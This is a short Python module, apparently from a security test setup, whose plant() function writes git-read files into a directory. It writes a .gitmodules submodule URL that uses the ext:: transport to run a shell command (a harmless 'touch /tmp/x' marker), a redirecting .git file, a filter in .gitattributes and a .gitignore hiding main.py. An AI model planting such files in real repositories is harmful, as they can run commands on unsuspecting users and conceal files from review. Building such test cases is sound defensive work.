"""What this attack puts into its own tree before it runs."""

from __future__ import annotations

from pathlib import Path
from typing import Any


def plant(tree: Path, targets: dict[str, Any]) -> None:
    """Files that git reads by itself."""
    (tree / ".gitattributes").write_text("* filter=x export-subst export-ignore\n")
    (tree / ".gitmodules").write_text('[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/x\n')
    (tree / "sub").mkdir()
    (tree / "sub" / ".git").write_text(f"gitdir: {tree}/.git\n")
    (tree / ".gitignore").write_text("main.py\n")
